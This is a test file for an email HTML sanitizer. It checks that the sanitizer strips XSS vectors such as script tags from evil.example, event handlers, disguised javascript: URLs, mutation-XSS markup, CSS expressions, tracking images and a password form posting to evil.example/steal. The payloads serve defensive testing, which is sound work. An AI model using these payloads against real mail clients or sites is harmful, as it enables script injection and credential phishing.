import { describe, expect, it } from "vitest";
import { sanitizeEmailHtml } from "@/lib/mime/sanitize-html";
import type { ParsedMessage } from "@/lib/mime/types";

// 1x1 PNG
const PNG = Buffer.from(
  "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415478da63f8cfc0000003010100c9fe92ef0000000049454e44ae426082",
  "hex",
);
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
const INLINE: ParsedMessage["inlineImages"] = {
  "logo@example.com": { contentType: "image/png", data: PNG },
  "vector@example.com": { contentType: "image/svg+xml", data: SVG },
  "liar@example.com": { contentType: "image/png", data: SVG },
};

const blocked = (html: string) => sanitizeEmailHtml(html, { allowRemoteContent: false, inlineImages: INLINE });
const allowed = (html: string) => sanitizeEmailHtml(html, { allowRemoteContent: true, inlineImages: INLINE });

describe("sanitizeEmailHtml", () => {
  it("drops script elements with their content", () => {
    expect(blocked("<p>hi</p><script>alert(1)</script><SCRIPT src=//evil.example/x.js></SCRIPT>").html).toBe("<p>hi</p>");
  });

  it("drops event handler attributes (onerror, onclick)", () => {
    const { html } = blocked('<img src="cid:logo@example.com" onerror="alert(1)"><p onclick="alert(2)">x</p>');
    expect(html).not.toMatch(/onerror|onclick|alert/);
    expect(html).toContain("<p>x</p>");
  });

  it("drops javascript:, vbscript: and data: link targets, also when disguised with tabs or entities", () => {
    const { html } = blocked(
      '<a href="javascript:alert(1)">a</a><a href="java&#x09;script:alert(1)">b</a><a href=" JaVaScRiPt:alert(1)">c</a>' +
        '<a href="vbscript:msgbox(1)">d</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">e</a>',
    );
    expect(html).toBe("<a>a</a><a>b</a><a>c</a><a>d</a><a>e</a>");
  });

  it("drops relative links, which would resolve against Postern's own origin", () => {
    expect(blocked('<a href="/api/messages/source?uid=1">x</a><a href="#top">y</a>').html).toBe("<a>x</a><a>y</a>");
  });

  it("opens http(s) and mailto links in a new tab without opener or referrer", () => {
    const { html } = blocked('<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">x</a><a href="mailto:a@example.com">m</a>');
    expect(html).toBe(
      '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>' +
        '<a href="mailto:a@example.com" target="_blank" rel="noopener noreferrer">m</a>',
    );
  });

  it("drops svg with its onload and content", () => {
    const { html } = blocked('<svg onload="alert(1)"><script>alert(2)</script><text>t</text></svg><p>after</p>');
    expect(html).toBe("<p>after</p>");
  });

  it("drops math markup used for mutation XSS", () => {
    const { html } = blocked("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>end");
    expect(html).toBe("end");
  });

  it("drops <style> elements, so @import cannot load remote CSS", () => {
    const { html, blockedRemoteCount } = blocked("<style>@import url(https://evil.example/x.css); p { color: red }</style><p>x</p>");
    expect(html).toBe("<p>x</p>");
    expect(blockedRemoteCount).toBe(0);
  });

  it("drops position:fixed and position:absolute overlays but keeps harmless styles", () => {
    const { html } = blocked(
      '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999; color: red">a</div>' +
        '<div style="position:absolute !important">b</div><div style="position: relative">c</div>',
    );
    expect(html).toBe('<div style="width:100%;height:100%;color:red">a</div><div>b</div><div style="position:relative">c</div>');
  });

  it("drops CSS expression(), behavior, -moz-binding and escaped tricks", () => {
    const { html } = blocked(
      '<p style="width: expression(alert(1)); behavior: url(x.htc); -moz-binding: url(x.xml#y); color: \\72 ed; font-weight: bold">x</p>',
    );
    expect(html).toBe('<p style="font-weight:bold">x</p>');
  });

  it("blocks remote images by default, counts them, and marks where they were", () => {
    const { html, blockedRemoteCount } = blocked(
      '<img src="https://tracker.example/open.gif" width="1" height="1" alt="">' +
        '<img src="//cdn.example/logo.png"><img src="HTTP://EXAMPLE.COM/a.png">',
    );
    expect(html).not.toMatch(/tracker|cdn\.example|example\.com/i);
    expect(html.match(/data-postern-blocked="remote-image"/g)).toHaveLength(3);
    expect(blockedRemoteCount).toBe(3);
  });

  it("blocks remote background attributes and CSS url() and counts them", () => {
    const { html, blockedRemoteCount } = blocked(
      '<table background="https://x.example/bg.png"><tr><td style="background-image: url(\'https://x.example/a.png\'); color: red">c</td>' +
        '<td style="background: #fff url(http://x.example/b.png) no-repeat">d</td></tr></table>',
    );
    expect(html).not.toContain("x.example");
    expect(html).toContain('style="color:red"');
    expect(blockedRemoteCount).toBe(3);
  });

  it("keeps remote images when the user allowed remote content", () => {
    const { html, blockedRemoteCount } = allowed(
      '<img src="https://example.com/a.png"><img src="//cdn.example/b.png"><td style="background-image:url(https://example.com/bg.png)">x</td>',
    );
    expect(html).toContain('<img src="https://example.com/a.png" />');
    expect(html).toContain('<img src="https://cdn.example/b.png" />');
    expect(html).toContain("url(&quot;https://example.com/bg.png&quot;)");
    expect(blockedRemoteCount).toBe(0);
  });

  it("still drops non-http image sources when remote content is allowed", () => {
    expect(allowed('<img src="javascript:alert(1)"><img src="/local.png"><img src="file:///etc/passwd">').html).toBe("<img /><img /><img />");
  });

  it("replaces cid: references with data: URLs of the inline images", () => {
    const { html } = blocked('<img src="cid:logo@example.com" alt="logo"><img src="CID:%3Clogo@example.com%3E">');
    const dataUrl = `data:image/png;base64,${PNG.toString("base64")}`;
    expect(html).toBe(`<img src="${dataUrl}" alt="logo" /><img src="${dataUrl}" />`);
  });

  it("refuses cid images that are not safe raster images, whatever type they claim", () => {
    expect(blocked('<img src="cid:vector@example.com"><img src="cid:liar@example.com"><img src="cid:missing@example.com">').html).toBe(
      "<img /><img /><img />",
    );
  });

  it("refuses data:image/svg+xml and other non-raster data: URLs, keeps raster ones", () => {
    const { html } = blocked(
      '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><img src="data:text/html,<script>alert(1)</script>">' +
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
    );
    expect(html).toBe('<img /><img /><img src="data:image/png;base64,iVBORw0KGgo=" />');
  });

  it("drops <base href> so links cannot be redirected", () => {
    expect(blocked('<base href="https://evil.example/"><a href="https://ok.example/">x</a>').html).not.toContain("base");
  });

  it("drops <meta http-equiv=refresh> and <link>", () => {
    const { html } = blocked(
      '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>',
    );
    expect(html).toBe("<p>x</p>");
  });

  it("drops forms, inputs, buttons and textareas (no credential phishing forms)", () => {
    const { html } = blocked(
      '<form action="https://evil.example/steal" method="post"><input type="password" name="pw"><button>Sign in</button>' +
        "<textarea>prefilled</textarea><select><option>o</option></select></form>",
    );
    expect(html).toBe("Sign in");
  });

  it("drops iframes, objects and embeds", () => {
    const { html } = blocked('<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf"><p>x</p>');
    expect(html).toBe("<p>x</p>");
  });

  it("keeps email layout: tables, fonts, alignment and the body's own attributes", () => {
    const { html } = blocked(
      '<body bgcolor="#eeeeee" style="font-family: Arial"><title>T</title><center><table width="600" cellpadding="0" border="0">' +
        '<tr><td align="center" valign="top"><font color="#333" face="Georgia" size="2"><b>Hi</b></font></td></tr></table></center></body>',
    );
    expect(html).toBe(
      '<div bgcolor="#eeeeee" style="font-family:Arial"><center><table width="600" cellpadding="0" border="0">' +
        '<tr><td align="center" valign="top"><font color="#333" face="Georgia" size="2"><b>Hi</b></font></td></tr></table></center></div>',
    );
  });

  it("does not let the message fake Postern's blocked-image marker", () => {
    expect(blocked('<img data-postern-blocked="remote-image" alt="x">').html).toBe('<img alt="x" />');
  });

  it("inlines a repeated cid reference only up to the size budget", () => {
    const big = Buffer.concat([PNG, Buffer.alloc(3 * 1024 * 1024)]);
    const images = { "big@example.com": { contentType: "image/png", data: big } };
    const { html } = sanitizeEmailHtml('<img src="cid:big@example.com">'.repeat(20), { allowRemoteContent: false, inlineImages: images });
    const inlined = html.match(/<img src="data:/g)?.length ?? 0;
    expect(inlined).toBeGreaterThan(0);
    expect(inlined).toBeLessThan(20);
  });
});
